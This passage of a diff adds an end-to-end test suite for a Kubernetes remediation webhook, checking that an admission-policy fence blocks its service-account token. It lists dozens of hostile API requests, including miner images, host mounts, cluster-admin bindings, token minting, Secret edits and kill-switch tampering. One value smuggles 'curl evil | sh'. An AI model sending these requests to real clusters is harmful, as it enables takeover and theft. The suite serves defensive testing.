@@ -1,0 +1,772 @@
+import { readFileSync } from 'node:fs';
+import { needsOf } from '../../constructs/remediation-webhook/permissions';
+import { type Run, restartWorkload, scaleUp } from '../../remediation';
+import { METADATA } from '../../remediation/actions/fence';
+import { type ScaleUp, scaleUpAction } from '../../remediation/actions/scale-up';
+import { checkRights } from '../../remediation/intake/readiness';
+import { KubernetesClient } from '../../remediation/kubernetes';
+import { KEYS } from '../../remediation/record';
+import { APPLY, type ApiRequest, apiAs, refusalOf, STRATEGIC } from './support/api';
+import { type Kubernetes, makeNamespace, startKubernetes } from './support/kubernetes';
+import { waitFor } from './support/server';
+import { type Deployed, deployWebhook, MONITORING } from './support/webhook';
+
+const APPLICATION = 'sightedit';
+const FENCE = `${MONITORING}-remediation-webhook`;
+const CEILING = 6;
+const RESTARTED_AT = 'kubectl.kubernetes.io/restartedAt';
+
+/** Metadata that the API server sets itself, or that never changes. */
+const OF_THE_API_SERVER = [
+  ...['name', 'namespace', 'uid', 'selfLink', 'resourceVersion', 'generation', 'managedFields'],
+  ...['creationTimestamp', 'deletionTimestamp', 'deletionGracePeriodSeconds'],
+];
+
+/** kubectl says `configured` of these whether they changed or not; see kubernetes.e2e.ts. */
+const ALWAYS_SENT = 'poddisruptionbudget.policy/';
+
+const POLICIES = [
+  restartWorkload({
+    namespace: APPLICATION,
+    deployments: ['backend', 'applied', 'not-opted-in', 'not-there'],
+    verification: { query: 'vector(1)' },
+  }),
+  scaleUp({
+    namespace: APPLICATION,
+    deployments: ['backend', 'stopped'],
+    autoscalers: ['backend'],
+    ceiling: CEILING,
+    verification: { query: 'vector(1)' },
+  }),
+];
+
+let kubernetes: Kubernetes;
+let deployed: Deployed;
+/** With the token of the webhook's ServiceAccount. */
+let asWebhook: ReturnType<typeof apiAs>;
+let asAdministrator: ReturnType<typeof apiAs>;
+
+beforeAll(async () => {
+  kubernetes = await startKubernetes(['validatingadmissionpolicy-status-controller']);
+  await makeNamespace(kubernetes, APPLICATION);
+  deployed = await deployWebhook(kubernetes, POLICIES);
+  asWebhook = apiAs(kubernetes, deployed.tokenFile);
+  asAdministrator = apiAs(kubernetes);
+  for (const [collection, object] of OBJECTS) {
+    expect(refusalOf(await asAdministrator({ method: 'POST', path: collection, body: object }))).toBeUndefined();
+  }
+});
+afterAll(() => kubernetes?.stop());
+
+const CORE = `/api/v1/namespaces/${APPLICATION}`;
+const APPS = `/apis/apps/v1/namespaces/${APPLICATION}/deployments`;
+const AUTOSCALERS = `/apis/autoscaling/v2/namespaces/${APPLICATION}/horizontalpodautoscalers`;
+const AUTOSCALERS_V1 = `/apis/autoscaling/v1/namespaces/${APPLICATION}/horizontalpodautoscalers`;
+const RECORDS = `/apis/monitoring.sightedit.com/v1alpha1/namespaces/${MONITORING}/remediations`;
+const LEASES = `/apis/coordination.k8s.io/v1/namespaces/${MONITORING}/leases`;
+
+const CONTAINER = { name: 'server', image: 'sightedit/backend:1', env: [{ name: 'MODE', value: 'fast' }] };
+const LABELS = { app: 'sightedit' };
+
+function deployment(name: string, changes: { labels?: object; replicas?: number } = {}) {
+  return {
+    apiVersion: 'apps/v1',
+    kind: 'Deployment',
+    metadata: { name, labels: changes.labels ?? { [KEYS.optIn]: 'enabled' }, annotations: { owner: 'team' } },
+    spec: {
+      replicas: changes.replicas ?? 2,
+      selector: { matchLabels: LABELS },
+      template: {
+        metadata: { labels: LABELS, annotations: { version: '1' } },
+        spec: { containers: [CONTAINER] },
+      },
+    },
+  };
+}
+
+function autoscaler(name: string) {
+  return {
+    apiVersion: 'autoscaling/v2',
+    kind: 'HorizontalPodAutoscaler',
+    metadata: { name, annotations: { owner: 'team' } },
+    spec: {
+      minReplicas: 2,
+      maxReplicas: 10,
+      scaleTargetRef: { apiVersion: 'apps/v1', kind: 'Deployment', name: 'backend' },
+      metrics: [
+        { type: 'Resource', resource: { name: 'cpu', target: { type: 'Utilization', averageUtilization: 70 } } },
+      ],
+    },
+  };
+}
+
+function event(name: string, reportingComponent: string) {
+  return {
+    metadata: { name },
+    involvedObject: { apiVersion: 'apps/v1', kind: 'Deployment', name: 'backend', namespace: APPLICATION },
+    reason: 'Sample',
+    message: 'Something happened',
+    type: 'Normal',
+    count: 1,
+    reportingComponent,
+    reportingInstance: 'sample',
+    source: { component: reportingComponent },
+  };
+}
+
+function record(name: string, annotations: object = {}) {
+  return {
+    apiVersion: 'monitoring.sightedit.com/v1alpha1',
+    kind: 'Remediation',
+    metadata: { name, annotations },
+    spec: {
+      policy: 'restart-workload',
+      action: 'restart-workload',
+      attempt: 1,
+      traceparent: '',
+      alert: { name: 'A', fingerprint: 'aa', startsAt: '2026-01-01T00:00:00Z', labels: {}, annotations: {} },
+    },
+  };
+}
+
+function lease(name: string) {
+  return { metadata: { name }, spec: { holderIdentity: 'somebody', leaseDurationSeconds: 60 } };
+}
+
+/** What is there before the tests, made by the administrator. */
+const OBJECTS: readonly (readonly [
+  string,
+  { readonly metadata: { readonly name: string }; readonly [field: string]: unknown },
+])[] = [
+  [APPS, deployment('backend')],
+  [APPS, deployment('not-opted-in', { labels: {} })],
+  [APPS, deployment('stopped', { replicas: 0 })],
+  [APPS, deployment('elsewhere')],
+  [APPS, deployment('applied')],
+  ['/apis/apps/v1/namespaces/default/deployments', deployment('backend')],
+  [AUTOSCALERS, autoscaler('backend')],
+  [AUTOSCALERS, autoscaler('elsewhere')],
+  [`${CORE}/pods`, { metadata: { name: 'pod' }, spec: { containers: [CONTAINER] } }],
+  [`${CORE}/secrets`, { metadata: { name: 'secret' }, stringData: { PASSWORD: 'not-a-real-password' } }],
+  [`${CORE}/services`, { metadata: { name: 'service' }, spec: { ports: [{ port: 80 }] } }],
+  [`${CORE}/events`, event('evidence', 'kubelet')],
+  [RECORDS, record('waits')],
+  [LEASES, lease('of-somebody-else')],
+];
+
+/** A merge patch of the template of a pod. */
+const template = (change: object) => patch(`${APPS}/backend`, { spec: { template: change } });
+const patch = (path: string, body: object): ApiRequest => ({ method: 'PATCH', path, body });
+const restart = (path: string, annotations: object = { [RESTARTED_AT]: '2026-01-02T03:04:05Z' }): ApiRequest => ({
+  method: 'PATCH',
+  path,
+  type: STRATEGIC,
+  body: { spec: { template: { metadata: { annotations } } } },
+});
+const owner = { apiVersion: 'v1', kind: 'ConfigMap', name: 'x', uid: '7c3a6b04-0000-4000-8000-000000000000' };
+
+/** What whoever has the webhook's token could do to harm, were it not for the fence. */
+const ATTACKS: { readonly [title: string]: ApiRequest } = {
+  // Through the right to restart.
+  'runs another image': template({ spec: { containers: [{ ...CONTAINER, image: 'evil/miner:1' }] } }),
+  'runs another image as it restarts': {
+    ...restart(`${APPS}/backend`),
+    body: {
+      spec: {
+        template: {
+          metadata: { annotations: { [RESTARTED_AT]: '2026-01-02T03:04:05Z' } },
+          spec: { containers: [{ name: 'server', image: 'evil/miner:1' }] },
+        },
+      },
+    },
+  },
+  'changes the environment': template({ spec: { containers: [{ ...CONTAINER, env: [] }] } }),
+  'adds a command': template({ spec: { containers: [{ ...CONTAINER, command: ['sh'] }] } }),
+  'adds a container': template({ spec: { containers: [CONTAINER, { name: 'more', image: 'evil/miner:1' }] } }),
+  'adds an init container': template({ spec: { initContainers: [{ name: 'first', image: 'evil/miner:1' }] } }),
+  'mounts the host': template({ spec: { volumes: [{ name: 'host', hostPath: { path: '/' } }] } }),
+  'takes another ServiceAccount': template({ spec: { serviceAccountName: 'default-admin' } }),
+  'sees the network of the host': template({ spec: { hostNetwork: true } }),
+  'labels the pods': template({ metadata: { labels: { more: 'yes' } } }),
+  'adds an annotation of the template': template({ metadata: { annotations: { 'prometheus.io/scrape': 'true' } } }),
+  'changes an annotation of the template': template({ metadata: { annotations: { version: '2' } } }),
+  'removes an annotation of the template': template({ metadata: { annotations: { version: null } } }),
+  'leaves pods that nothing can remove': template({ metadata: { finalizers: ['evil.example.com/forever'] } }),
+  'hides a text in the time of the restart': restart(`${APPS}/backend`, { [RESTARTED_AT]: 'curl evil | sh' }),
+  'changes the replicas': patch(`${APPS}/backend`, { spec: { replicas: 0 } }),
+  'pauses roll-outs': patch(`${APPS}/backend`, { spec: { paused: true } }),
+  'changes the strategy': patch(`${APPS}/backend`, { spec: { strategy: { type: 'Recreate', rollingUpdate: null } } }),
+  'calls pods available at once': patch(`${APPS}/backend`, { spec: { minReadySeconds: 1 } }),
+  'drops the history': patch(`${APPS}/backend`, { spec: { revisionHistoryLimit: 0 } }),
+  'changes the deadline': patch(`${APPS}/backend`, { spec: { progressDeadlineSeconds: 6000 } }),
+  'labels the Deployment': patch(`${APPS}/backend`, { metadata: { labels: { more: 'yes' } } }),
+  'opts out': patch(`${APPS}/backend`, { metadata: { labels: { [KEYS.optIn]: null } } }),
+  'opts in': patch(`${APPS}/not-opted-in`, { metadata: { labels: { [KEYS.optIn]: 'enabled' } } }),
+  'opts in and restarts at once': {
+    ...restart(`${APPS}/not-opted-in`),
+    body: {
+      metadata: { labels: { [KEYS.optIn]: 'enabled' } },
+      spec: { template: { metadata: { annotations: { [RESTARTED_AT]: '2026-01-02T03:04:05Z' } } } },
+    },
+  },
+  'annotates the Deployment': patch(`${APPS}/backend`, { metadata: { annotations: { owner: 'me' } } }),
+  'gives the Deployment an owner': patch(`${APPS}/backend`, { metadata: { ownerReferences: [owner] } }),
+  'drops what others have applied': patch(`${APPS}/applied`, { metadata: { managedFields: [{}] } }),
+  'claims what others have applied': patch(`${APPS}/applied`, {
+    metadata: {
+      managedFields: [
+        {
+          manager: 'evil',
+          operation: 'Apply',
+          apiVersion: 'apps/v1',
+          fieldsType: 'FieldsV1',
+          fieldsV1: { 'f:spec': { 'f:replicas': {} } },
+        },
+      ],
+    },
+  }),
+  'applies the time of a restart': {
+    method: 'PATCH',
+    path: `${APPS}/applied?fieldManager=evil&force=true`,
+    type: APPLY,
+    body: {
+      apiVersion: 'apps/v1',
+      kind: 'Deployment',
+      metadata: { name: 'applied' },
+      spec: { template: { metadata: { annotations: { [RESTARTED_AT]: '2026-01-09T03:04:05Z' } } } },
+    },
+  },
+  'adds a finalizer': patch(`${APPS}/backend`, { metadata: { finalizers: ['evil.example.com/forever'] } }),
+  'restarts what did not opt in': restart(`${APPS}/not-opted-in`),
+  'restarts what no policy names': restart(`${APPS}/elsewhere`),
+  'restarts what is called alike elsewhere': restart('/apis/apps/v1/namespaces/default/deployments/backend'),
+  'replaces the Deployment': {
+    method: 'PUT',
+    path: `${APPS}/backend`,
+    body: { ...deployment('backend'), spec: { ...deployment('backend').spec, replicas: 1 } },
+  },
+  'applies over the Deployment': {
+    method: 'PATCH',
+    path: `${APPS}/backend?fieldManager=evil&force=true`,
+    type: APPLY,
+    body: { apiVersion: 'apps/v1', kind: 'Deployment', metadata: { name: 'backend' }, spec: { replicas: 1 } },
+  },
+  'applies a Deployment that is not there': {
+    method: 'PATCH',
+    path: `${APPS}/not-there?fieldManager=evil`,
+    type: APPLY,
+    body: deployment('not-there'),
+  },
+  'creates a Deployment': { method: 'POST', path: APPS, body: deployment('not-there') },
+  'deletes a Deployment': { method: 'DELETE', path: `${APPS}/backend` },
+  'deletes all Deployments': { method: 'DELETE', path: APPS },
+  'lies about the status': patch(`${APPS}/backend/status`, { status: { replicas: 9 } }),
+
+  // Through the right to scale.
+  'scales down': patch(`${APPS}/backend/scale`, { spec: { replicas: 1 } }),
+  'scales over the ceiling': patch(`${APPS}/backend/scale`, { spec: { replicas: CEILING + 1 } }),
+  'scales what no policy names': patch(`${APPS}/elsewhere/scale`, { spec: { replicas: 3 } }),
+  'starts what is stopped': patch(`${APPS}/stopped/scale`, { spec: { replicas: 1 } }),
+  'raises the maximum': patch(`${AUTOSCALERS}/backend`, { spec: { maxReplicas: 100 } }),
+  'scales something else': patch(`${AUTOSCALERS}/backend`, { spec: { scaleTargetRef: { name: 'elsewhere' } } }),
+  'changes what is measured': patch(`${AUTOSCALERS}/backend`, {
+    spec: {
+      metrics: [
+        { type: 'Resource', resource: { name: 'cpu', target: { type: 'Utilization', averageUtilization: 1 } } },
+      ],
+    },
+  }),
+  'changes how it scales': patch(`${AUTOSCALERS}/backend`, {
+    spec: { behavior: { scaleUp: { stabilizationWindowSeconds: 3600 } } },
+  }),
+  'raises the floor over the ceiling': floor(CEILING + 1, `${CEILING + 1} from 2`),
+  'raises the floor without a note': floor(3),
+  'notes another floor than there was': floor(3, '3 from 1'),
+  "lowers the owner's floor": floor(1),
+  "lowers the owner's floor with a note": floor(1, '2 from 1'),
+  'notes a floor that it has not raised': floor(2, '2 from 1'),
+  'changes what is measured, through an older version': patch(`${AUTOSCALERS_V1}/backend`, {
+    spec: { targetCPUUtilizationPercentage: 1 },
+  }),
+  'lowers the floor, through an older version': patch(`${AUTOSCALERS_V1}/backend`, { spec: { minReplicas: 1 } }),
+  'labels the autoscaler': patch(`${AUTOSCALERS}/backend`, { metadata: { labels: { more: 'yes' } } }),
+  'annotates the autoscaler': patch(`${AUTOSCALERS}/backend`, { metadata: { annotations: { owner: 'me' } } }),
+  'gives the autoscaler an owner': patch(`${AUTOSCALERS}/backend`, { metadata: { ownerReferences: [owner] } }),
+  'keeps the autoscaler from being removed': patch(`${AUTOSCALERS}/backend`, {
+    metadata: { finalizers: ['evil.example.com/forever'] },
+  }),
+  'raises the floor of what no policy names': {
+    ...floor(3, '3 from 2'),
+    path: `${AUTOSCALERS}/elsewhere`,
+  },
+  'lies about the status of the autoscaler': patch(`${AUTOSCALERS}/backend/status`, { status: { desiredReplicas: 9 } }),
+  'deletes the autoscaler': { method: 'DELETE', path: `${AUTOSCALERS}/backend` },
+
+  // Pods, and what is done to them through their subresources.
+  'creates a pod': {
+    method: 'POST',
+    path: `${CORE}/pods`,
+    body: { metadata: { generateName: 'evil-' }, spec: { containers: [CONTAINER] } },
+  },
+  'deletes a pod': { method: 'DELETE', path: `${CORE}/pods/pod` },
+  'deletes all pods': { method: 'DELETE', path: `${CORE}/pods` },
+  'evicts a pod': {
+    method: 'POST',
+    path: `${CORE}/pods/pod/eviction`,
+    body: { apiVersion: 'policy/v1', kind: 'Eviction', metadata: { name: 'pod' } },
+  },
+  'debugs a pod': {
+    method: 'PATCH',
+    path: `${CORE}/pods/pod/ephemeralcontainers`,
+    type: STRATEGIC,
+    body: { spec: { ephemeralContainers: [{ name: 'debug', image: 'evil/miner:1' }] } },
+  },
+  'binds a pod to a node': {
+    method: 'POST',
+    path: `${CORE}/pods/pod/binding`,
+    body: { metadata: { name: 'pod' }, target: { kind: 'Node', name: 'somewhere' } },
+  },
+  'lies about the status of a pod': patch(`${CORE}/pods/pod/status`, { status: { phase: 'Failed' } }),
+
+  // What leads to more rights.
+  'makes a token of somebody else': {
+    method: 'POST',
+    path: `${CORE}/serviceaccounts/default/token`,
+    body: { apiVersion: 'authentication.k8s.io/v1', kind: 'TokenRequest', spec: {} },
+  },
+  'makes a token of itself': {
+    method: 'POST',
+    path: `/api/v1/namespaces/${MONITORING}/serviceaccounts/remediation-webhook/token`,
+    body: { apiVersion: 'authentication.k8s.io/v1', kind: 'TokenRequest', spec: {} },
+  },
+  'gives itself a role': {
+    method: 'POST',
+    path: '/apis/rbac.authorization.k8s.io/v1/clusterrolebindings',
+    body: {
+      metadata: { name: 'evil' },
+      roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' },
+      subjects: [{ kind: 'ServiceAccount', name: 'remediation-webhook', namespace: MONITORING }],
+    },
+  },
+  'changes its roles': patch(
+    `/apis/rbac.authorization.k8s.io/v1/namespaces/${APPLICATION}/roles/${MONITORING}-remediation-webhook`,
+    { rules: [{ apiGroups: [''], resources: ['secrets'], verbs: ['get'] }] },
+  ),
+  'creates a Secret': { method: 'POST', path: `${CORE}/secrets`, body: { metadata: { name: 'evil' } } },
+  'changes a Secret': patch(`${CORE}/secrets/secret`, { stringData: { PASSWORD: 'mine' } }),
+  'deletes a Secret': { method: 'DELETE', path: `${CORE}/secrets/secret` },
+  'registers a node': { method: 'POST', path: '/api/v1/nodes', body: { metadata: { name: 'evil' } } },
+  'creates a namespace': { method: 'POST', path: '/api/v1/namespaces', body: { metadata: { name: 'evil' } } },
+  'deletes a namespace': { method: 'DELETE', path: `/api/v1/namespaces/${APPLICATION}` },
+  'labels a namespace': patch(`/api/v1/namespaces/${APPLICATION}`, { metadata: { labels: { evil: 'yes' } } }),
+  'opens the network': {
+    method: 'POST',
+    path: `/apis/networking.k8s.io/v1/namespaces/${APPLICATION}/networkpolicies`,
+    body: { metadata: { name: 'evil' }, spec: { podSelector: {}, ingress: [{}] } },
+  },
+  'changes the definition of the records': patch(
+    '/apis/apiextensions.k8s.io/v1/customresourcedefinitions/remediations.monitoring.sightedit.com',
+    { metadata: { labels: { evil: 'yes' } } },
+  ),
+
+  // Its own rails.
+  'changes the kill switch': patch(`/api/v1/namespaces/${MONITORING}/configmaps/remediation-webhook-switch`, {
+    data: { armed: 'false' },
+  }),
+  'deletes the kill switch': {
+    method: 'DELETE',
+    path: `/api/v1/namespaces/${MONITORING}/configmaps/remediation-webhook-switch`,
+  },
+  'changes its configuration': patch(`/api/v1/namespaces/${MONITORING}/configmaps/remediation-webhook-config`, {
+    data: { 'remediation.json': '{}' },
+  }),
+  'approves what it asks for': patch(`${RECORDS}/waits`, { metadata: { annotations: { [KEYS.approved]: 'true' } } }),
+  'approves what it asks for by applying': {
+    method: 'PATCH',
+    path: `${RECORDS}/waits?fieldManager=evil`,
+    type: APPLY,
+    body: {
+      apiVersion: 'monitoring.sightedit.com/v1alpha1',
+      kind: 'Remediation',
+      metadata: { name: 'waits', annotations: { [KEYS.approved]: 'true' } },
+    },
+  },
+  'asks for what is approved already': {
+    method: 'POST',
+    path: RECORDS,
+    body: record('approved', { [KEYS.approved]: 'true' }),
+  },
+  'makes a record elsewhere': {
+    method: 'POST',
+    path: RECORDS.replace(MONITORING, APPLICATION),
+    body: record('elsewhere'),
+  },
+  'deletes all records': { method: 'DELETE', path: RECORDS },
+  'takes the lease of somebody else': patch(`${LEASES}/of-somebody-else`, { spec: { holderIdentity: 'me' } }),
+  'deletes the lease of somebody else': { method: 'DELETE', path: `${LEASES}/of-somebody-else` },
+  'deletes all leases': { method: 'DELETE', path: LEASES },
+  'makes a lease elsewhere': {
+    method: 'POST',
+    path: LEASES.replace(MONITORING, APPLICATION),
+    body: lease('remediation-lock'),
+  },
+  'changes an Event of somebody else': patch(`${CORE}/events/evidence`, { message: 'Nothing happened' }),
+  'takes over an Event of somebody else': patch(`${CORE}/events/evidence`, {
+    reportingComponent: 'remediation-webhook',
+  }),
+  'speaks for somebody else': { method: 'POST', path: `${CORE}/events`, body: event('lie', 'kubelet') },
+  'deletes an Event': { method: 'DELETE', path: `${CORE}/events/evidence` },
+  'leaves an Event elsewhere': {
+    method: 'POST',
+    path: '/api/v1/namespaces/default/events',
+    body: {
+      ...event('elsewhere', 'remediation-webhook'),
+      involvedObject: { kind: 'Deployment', name: 'backend', namespace: 'default' },
+    },
+  },
+};
+
+/** What reaches into running pods and through the API server; there are no nodes here, so nothing would answer. */
+const CONNECTIONS: { readonly [title: string]: ApiRequest } = {
+  'runs a command in a pod': { method: 'POST', path: `${CORE}/pods/pod/exec?command=sh&stdout=true` },
+  'runs a command in a pod by GET': { method: 'GET', path: `${CORE}/pods/pod/exec?command=sh&stdout=true` },
+  'attaches to a pod': { method: 'POST', path: `${CORE}/pods/pod/attach?stdout=true` },
+  'forwards a port': { method: 'POST', path: `${CORE}/pods/pod/portforward?ports=80` },
+  'speaks to a pod': { method: 'GET', path: `${CORE}/pods/pod/proxy/` },
+  'speaks to a service': { method: 'GET', path: `${CORE}/services/service:80/proxy/` },
+};
+
+/** A change of the floor of the autoscaler, and the note with it; `null` removes the note. */
+function floor(minReplicas: number, note?: string | null): ApiRequest {
+  const annotations = note === undefined ? undefined : { [KEYS.raisedFloor]: note };
+  return patch(`${AUTOSCALERS}/backend`, { metadata: { annotations }, spec: { minReplicas } });
+}
+
+const withDryRun = (request: ApiRequest): ApiRequest => ({
+  ...request,
+  path: `${request.path}${request.path.includes('?') ? '&' : '?'}dryRun=All`,
+});
+
+/** What the fence says; RBAC and validation say other things. */
+const DENIED = /^403 .*ValidatingAdmissionPolicy 'sightedit-monitoring-remediation-webhook' .*denied request: /;
+
+/** What the webhook itself finds wrong with its rights. */
+async function wrongRights(): Promise<readonly string[]> {
+  const client = new KubernetesClient({ ...kubernetes.connection, tokenFile: deployed.tokenFile });
+  try {
+    return await checkRights(client, POLICIES);
+  } finally {
+    client.close();
+  }
+}
+
+describe('the rights of the webhook', () => {
+  const may = async (...question: readonly string[]) =>
+    (
+      await kubernetes.kubectl(
+        ...['auth', 'can-i', ...question, `--as=system:serviceaccount:${MONITORING}:remediation-webhook`],
+      )
+    ).stdout.trim();
+
+  test.each([
+    ['get', 'secrets', '--all-namespaces'],
+    ['get', 'configmaps', `--namespace=${APPLICATION}`],
+    ['get', 'configmaps', `--namespace=${MONITORING}`],
+    ['list', 'configmaps', `--namespace=${MONITORING}`],
+    ['list', 'deployments.apps', `--namespace=${APPLICATION}`],
+    ['get', 'deployments.apps/elsewhere', `--namespace=${APPLICATION}`],
+    ['get', 'pods', `--subresource=log`, `--namespace=${APPLICATION}`],
+    ['list', 'nodes'],
+    ['list', 'namespaces'],
+    ['impersonate', 'users'],
+    ['impersonate', 'serviceaccounts', '--all-namespaces'],
+    ['create', 'serviceaccounts', '--subresource=token', `--namespace=${MONITORING}`],
+    // No admission policy guards admission policies: https://kubernetes.io/docs/reference/access-authn-authz/validating-admission-policy/
+    ['delete', 'validatingadmissionpolicies.admissionregistration.k8s.io'],
+    ['patch', 'validatingadmissionpolicybindings.admissionregistration.k8s.io'],
+  ])('do not let it %s %s %s %s', async (...question) => {
+    expect(await may(...question.filter(Boolean))).toBe('no');
+  });
+
+  test('are what it checks before it says that it is ready', async () => {
+    expect(await wrongRights()).toEqual([]);
+  });
+
+  test('let it read what it repairs and its switch', async () => {
+    expect(await may('get', 'deployments.apps/backend', `--namespace=${APPLICATION}`)).toBe('yes');
+    expect(await may('get', 'configmaps/remediation-webhook-switch', `--namespace=${MONITORING}`)).toBe('yes');
+  });
+});
+
+describe('the fence, around a webhook that RBAC would let do everything', () => {
+  const stateOf = async () =>
+    Promise.all(
+      OBJECTS.map(async ([collection, { metadata }]) => {
+        const path = `${collection}/${metadata.name}`;
+        return [path, (await asAdministrator({ method: 'GET', path })).body.metadata.resourceVersion];
+      }),
+    );
+  let before: Awaited<ReturnType<typeof stateOf>>;
+
+  beforeAll(async () => {
+    const subject = `--serviceaccount=${MONITORING}:remediation-webhook`;
+    await kubernetes.kubectl('create', 'clusterrolebinding', 'everything', '--clusterrole=cluster-admin', subject);
+    // The API server reads new policies now and then.
+    await waitFor('the fence to stand', async () => {
+      const answer = await asWebhook(withDryRun({ method: 'DELETE', path: `${APPS}/elsewhere` }));
+      return DENIED.test(refusalOf(answer) ?? '');
+    });
+    // A Deployment as GitOps leaves it: applied by the server, and restarted before.
+    const applied = { method: 'PATCH', path: `${APPS}/applied?fieldManager=gitops&force=true`, type: APPLY } as const;
+    await asAdministrator({ ...applied, body: deployment('applied') });
+    await asAdministrator(restart(`${APPS}/applied`));
+    before = await stateOf();
+  });
+
+  test.each(Object.entries(ATTACKS))('%s: denied, to it alone', async (_title, request) => {
+    expect(refusalOf(await asWebhook(request))).toMatch(DENIED);
+    expect(refusalOf(await asWebhook(withDryRun(request)))).toMatch(DENIED);
+    // The request is a good one: others may.
+    expect(refusalOf(await asAdministrator(withDryRun(request)))).toBeUndefined();
+  });
+
+  test.each(Object.entries(CONNECTIONS))('%s: denied, to it alone', async (_title, request) => {
+    expect(refusalOf(await asWebhook(request))).toMatch(DENIED);
+    expect(refusalOf(await asAdministrator(request))).not.toMatch(DENIED);
+  });
+
+  test('is not all that it relies on: with such rights it says that it is not ready', async () => {
+    const wrong = await wrongRights();
+    for (const right of [
+      ...['get secrets', 'create pods/exec', 'delete deployments in sightedit', 'impersonate users'],
+      ...[
+        'create serviceaccounts/token',
+        'patch validatingadmissionpolicies',
+        'delete validatingadmissionpolicybindings',
+      ],
+    ]) {
+      expect(wrong).toContain(`may ${right}, and must not`);
+    }
+  });
+
+  test('has left everything as it was', async () => {
+    expect(await stateOf()).toEqual(before);
+  });
+});
+
+describe('within the fence', () => {
+  const allows = async (request: ApiRequest) => {
+    const answer = await asWebhook(request);
+    expect(refusalOf(answer)).toBeUndefined();
+    return answer.body;
+  };
+  const denies = async (request: ApiRequest) => expect(refusalOf(await asWebhook(request))).toMatch(DENIED);
+
+  test('a restart is let through, as a dry run and for real', async () => {
+    await allows(withDryRun(restart(`${APPS}/backend`)));
+    const { spec } = await allows(restart(`${APPS}/backend`));
+    expect(spec.template.metadata.annotations).toEqual({ version: '1', [RESTARTED_AT]: '2026-01-02T03:04:05Z' });
+    await allows(restart(`${APPS}/backend`, { [RESTARTED_AT]: '2026-01-03T03:04:05Z' }));
+    await allows(restart(`${APPS}/applied`, { [RESTARTED_AT]: '2026-01-03T03:04:05Z' }));
+    // Without its time the pods would roll as well.
+    await denies(template({ metadata: { annotations: { [RESTARTED_AT]: null } } }));
+  });
+
+  test('replicas are added up to the ceiling, and never taken away', async () => {
+    const scale = (replicas: number) => patch(`${APPS}/backend/scale`, { spec: { replicas } });
+    await allows(scale(3));
+    await allows(scale(CEILING));
+    await denies(scale(CEILING - 1));
+  });
+
+  test("a floor goes up, further up, and back to the owner's", async () => {
+    await allows(floor(3, '3 from 2'));
+    await allows(floor(5, '5 from 2'));
+    for (const attempt of [
+      floor(4, '4 from 2'),
+      floor(3, '3 from 2'),
+      floor(1, null),
+      floor(2),
+      floor(6, '6 from 5'),
+    ]) {
+      await denies(attempt);
+    }
+    const { spec, metadata } = await allows(floor(2, null));
+    expect([spec.minReplicas, metadata.annotations]).toEqual([2, { owner: 'team' }]);
+  });
+
+  test('a floor that its owner has set meanwhile is the one that it comes back to', async () => {
+    await allows(floor(5, '5 from 2'));
+    expect(await asAdministrator(floor(4))).toMatchObject({ code: 200 });
+    await denies(floor(2, null));
+    await denies(floor(6, '6 from 2'));
+    await allows(floor(6, '6 from 4'));
+    await allows(floor(4, null));
+  });
+
+  test("the action's own raises, one upon the other, come back to the owner's floor", async () => {
+    const client = new KubernetesClient({ ...kubernetes.connection, tokenFile: deployed.tokenFile });
+    const run = {
+      tools: { kubernetes: client },
+      target: { kind: 'Deployment', name: 'backend', namespace: APPLICATION },
+    } as Run<ScaleUp>;
+    const plan = (from: number, to: number) => ({
+      summary: '',
+      details: { kind: 'HorizontalPodAutoscaler', name: 'backend', from, to },
+    });
+    await asAdministrator(floor(2, null));
+    await scaleUpAction.execute(run, plan(2, 3));
+    await scaleUpAction.execute(run, plan(3, 5));
+    // The first one's time is over, then the second one's.
+    expect(await scaleUpAction.revert!(run, plan(2, 3))).toBe('left backend at 5: it was changed since');
+    expect(await scaleUpAction.revert!(run, plan(3, 5))).toBe('lowered the floor of backend from 5 to 2');
+    client.close();
+    const { spec, metadata } = (await asAdministrator({ method: 'GET', path: `${AUTOSCALERS}/backend` })).body;
+    expect([spec.minReplicas, metadata.annotations]).toEqual([2, { owner: 'team' }]);
+  });
+
+  test('its records, locks and Events are its own', async () => {
+    await allows({ method: 'POST', path: RECORDS, body: record('new') });
+    await allows(patch(`${RECORDS}/new`, { metadata: { labels: { [KEYS.open]: 'true' } } }));
+    await allows(patch(`${RECORDS}/new/status`, { status: { phase: 'skipped' } }));
+    await allows({ method: 'DELETE', path: `${RECORDS}/new` });
+    await allows({ method: 'POST', path: LEASES, body: lease('remediation-lock') });
+    await allows(patch(`${LEASES}/remediation-lock`, { spec: { holderIdentity: 'me' } }));
+    await allows({ method: 'DELETE', path: `${LEASES}/remediation-lock` });
+    for (const namespace of [APPLICATION, MONITORING]) {
+      const path = `/api/v1/namespaces/${namespace}/events`;
+      const own = event('own', 'remediation-webhook');
+      await allows({
+        method: 'POST',
+        path,
+        body: { ...own, involvedObject: { ...own.involvedObject, namespace } },
+      });
+      await allows(patch(`${path}/own`, { count: 2 }));
+    }
+  });
+
+  test('an approval of a human stays, and is not the status to give', async () => {
+    const approval = { metadata: { annotations: { [KEYS.approved]: 'true' } } };
+    const { metadata } = await allows(patch(`${RECORDS}/waits/status`, { ...approval, status: { phase: 'accepted' } }));
+    expect(metadata.annotations).toBeUndefined();
+    expect(await asAdministrator(patch(`${RECORDS}/waits`, approval))).toMatchObject({ code: 200 });
+    await allows(patch(`${RECORDS}/waits`, { metadata: { labels: { [KEYS.ran]: 'true' } } }));
+    await denies(patch(`${RECORDS}/waits`, { metadata: { annotations: { [KEYS.approved]: null } } }));
+  });
+
+  test('who asks is reviewed', async () => {
+    const review = (group: string, kind: string, spec: object) => ({
+      method: 'POST' as const,
+      path: `/apis/${group}/v1/${kind.toLowerCase()}s`,
+      body: { apiVersion: `${group}/v1`, kind, spec },
+    });
+    await allows(review('authentication.k8s.io', 'TokenReview', { token: deployed.notifierToken }));
+    const resourceAttributes = { verb: 'get', resource: 'pods' };
+    await allows(review('authorization.k8s.io', 'SelfSubjectAccessReview', { resourceAttributes }));
+  });
+
+  test('kubectl with its token is told why', async () => {
+    const { code, stderr } = await kubernetes.kubectl(
+      ...['set', 'image', 'deployment/backend', 'server=evil/miner:1', `--namespace=${APPLICATION}`],
+      `--token=${readFileSync(deployed.tokenFile, 'utf8')}`,
+    );
+    expect([code, stderr]).toEqual([
+      1,
+      expect.stringContaining(
+        'remediation-webhook may not UPDATE deployments.apps backend like this: no policy needs it',
+      ),
+    ]);
+  });
+});
+
+describe('the expressions of the fence', () => {
+  const { fences } = needsOf(POLICIES);
